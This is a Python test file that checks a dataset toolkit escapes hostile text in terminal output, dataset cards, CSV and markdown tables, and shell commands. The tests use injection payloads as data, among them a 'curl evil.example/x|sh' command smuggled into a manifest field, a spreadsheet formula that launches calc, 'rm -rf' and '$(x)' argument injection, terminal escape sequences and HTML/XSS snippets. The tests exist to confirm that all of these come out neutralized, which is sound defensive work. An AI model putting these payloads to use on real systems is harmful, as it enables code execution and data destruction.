"""Received text reaches a terminal, a card, a table and a command line as text, and as nothing else."""

import csv
import io
import json
import re
import shlex
import sys
from pathlib import Path

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from clusterq_cli.main import run_guarded
from clusterq_common import escape
from clusterq_common.errors import ClusterqError
from clusterq_common.progress.console import info, print_json, print_result, send_messages_to, warn, write_line
from clusterq_common.shards.card import dataset_card
from clusterq_common.shards.manifest import Derivation, Manifest, read_manifest
from clusterq_finetune.figures.draw import _table
from clusterq_finetune.results import as_markdown
from clusterq_finetune.shards_tools.commands import describe
from tests.common.shard_samples import edit_manifest, write_set

ESCAPES = "\x1b]0;PWNED\x07\x1b[2J\x9b31m\u202e\u200b\udcff\r\nset: sha256:forged\u2028\x85"
BLOCKS = "```\n# Free money <img src=x onerror=alert(1)>\n\n---\nlicense: mit\n---\n[click](javascript:alert(1)) *x* | ~~~"


def is_plain(text: str) -> bool:
    return all(character.isprintable() for character in text)


@given(st.text())
def test_one_line_is_one_line_that_a_terminal_shows(text: str) -> None:
    shown = escape.one_line(text)
    assert len(shown.splitlines()) <= 1
    assert not any(character in shown for character in ESCAPES if not character.isprintable())


def test_all_doors_are_escaped(capsys: pytest.CaptureFixture[str]) -> None:
    for door in (info, warn, print_result, write_line):
        door(ESCAPES)
    seen = capsys.readouterr()
    lines = [*seen.out.splitlines(), *seen.err.splitlines()]
    assert len(lines) == 4
    assert all(is_plain(line) and r"\x1b]0;PWNED\x07" in line for line in lines)
    heard: list[str] = []
    with send_messages_to(heard.append, None):
        info(ESCAPES)
        warn(ESCAPES)
    assert len(heard) == 2
    assert all(is_plain(line) for line in heard)


def test_an_error_is_one_line(capsys: pytest.CaptureFixture[str]) -> None:
    assert is_plain(str(ClusterqError(ESCAPES)))

    def fail() -> None:
        raise ClusterqError(f"--shards: {ESCAPES} is wrong.")

    for debug in (False, True):
        with pytest.raises(SystemExit) as left:
            run_guarded(fail, debug=debug)
        assert left.value.code == 2
        printed = capsys.readouterr().err
        assert all(is_plain(line) for line in printed.splitlines())
    assert len(ClusterqError("x" * 100_000).args[0]) < 11_000


def test_json_stays_json(capsys: pytest.CaptureFixture[str]) -> None:
    print_json({"note": ESCAPES + "\x7f"})
    line = capsys.readouterr().out
    assert is_plain(line.rstrip("\n"))
    assert json.loads(line) == {"note": ESCAPES + "\x7f"}


@pytest.mark.parametrize("encoding", ["ascii", "latin-1", "utf-8"])
def test_terminals_that_know_few_characters(encoding: str, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("stdout", "stderr"):
        monkeypatch.setattr(sys, name, io.TextIOWrapper(io.BytesIO(), encoding=encoding))
    print_result("\u00e4 \u4e2d \udcff")
    warn("\u00e4 \u4e2d \udcff")
    shown = sys.stdout.buffer.getvalue().decode(encoding)
    assert shown.strip() in {r"\xe4 \u4e2d \udcff", "\u00e4 \\u4e2d \\udcff", "\u00e4 \u4e2d \\udcff"}


def test_nothing_is_said_where_there_is_no_terminal(monkeypatch: pytest.MonkeyPatch) -> None:
    class Gone(io.StringIO):
        encoding = "utf-8"

        def write(self, _: str) -> int:
            raise BrokenPipeError(32, "Broken pipe")

    monkeypatch.setattr(sys, "stderr", Gone())
    info("a remark costs no run")
    monkeypatch.setattr(sys, "stderr", None)
    info("a remark costs no run")


def hostile_manifest(folder: Path) -> Manifest:
    write_set(folder)

    def spoil(values: dict[str, object]) -> None:
        values.update(
            note=BLOCKS + ESCAPES, license="MIT" + BLOCKS, created_by=BLOCKS, class_names=["<b>" + ESCAPES, BLOCKS, "c"]
        )
        values["commit"] = "`" + BLOCKS
        values["teacher"]["arch"] = "resnet20; curl evil.example/x|sh #" + BLOCKS
        values["generation"]["method"] = BLOCKS
        values["generation"]["settings"] = {"refine": [BLOCKS], "bank": 1, "labels": BLOCKS}
        values.pop("meaning", None)

    edit_manifest(folder, spoil)
    return read_manifest(folder)


def test_a_card_holds_text_alone(tmp_path: Path) -> None:
    manifest = hostile_manifest(tmp_path)
    card = dataset_card(manifest)
    start, front, rest = card.split("---\n", 2)
    assert not start
    values = yaml.safe_load(front)
    assert set(values) >= {"license", "pretty_name", "dataset_info"}
    assert values["license"].startswith("mit```")
    lines = rest.splitlines()
    assert [line for line in lines if line.startswith(("```", "~~~", "---"))] == ["```", "```"]
    assert [line for line in lines if line.startswith("#")][1:] == [
        "## How it was made",
        "## What it is for, and what it is not",
        "## Members of a sample",
        "## Use it",
    ]
    fence = lines.index("```")
    prose = re.sub(r"`[^`]*`", "", "\n".join(lines[:fence] + lines[fence + 3 :]))
    assert "<" not in prose
    assert "[click](" not in prose
    assert all(is_plain(line) for line in lines)
    command = next(line for line in lines if line.startswith("clusterq-finetune --shards"))
    assert shlex.split(command)[-1].startswith("resnet20; curl evil.example/x|sh #```")


def test_a_card_of_a_derived_set_holds_text_alone(tmp_path: Path) -> None:
    manifest = hostile_manifest(tmp_path)
    derived = Derivation(operation="subset", inputs=[manifest.digest], settings={"`" + BLOCKS: ESCAPES})
    card = dataset_card(manifest.model_copy(update={"generation": None, "derivation": derived}))
    assert all(is_plain(line) for line in card.splitlines())
    assert sum(line.startswith("```") for line in card.splitlines()) == 2


def test_shards_info_shows_a_note_on_its_own_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    lines = describe(hostile_manifest(tmp_path))
    for line in lines:
        print_result(line)
    shown = capsys.readouterr().out.splitlines()
    assert len(shown) == len(lines)
    assert all(is_plain(line) for line in shown)


def test_tables_hold_no_formula(tmp_path: Path) -> None:
    rows = [{"teacher": "=cmd|' /C calc'!A0", "method": "@SUM(1)", "seeds": "+1\n2", "top-1": -1.5, "none": None}]
    (cells,) = csv.DictReader(io.StringIO(escape.csv_table(rows)))
    assert cells == {"teacher": "'=cmd|' /C calc'!A0", "method": "'@SUM(1)", "seeds": "'+1 2", "top-1": "-1.5", "none": ""}
    (cells,) = csv.DictReader(io.StringIO(_table(rows)))
    assert cells["teacher"].startswith("'=")
    assert cells["top-1"] == "-1.5"
    table = as_markdown([{"teacher": BLOCKS + "|" + ESCAPES}])
    assert len(table.splitlines()) == 3
    assert "<img" not in table
    assert is_plain(table.splitlines()[-1])


def test_commands_are_quoted() -> None:
    assert shlex.split(escape.shell_command("clusterq-gen", "a b; rm -rf x", "$(x)")) == [
        "clusterq-gen",
        "a b; rm -rf x",
        "$(x)",
    ]
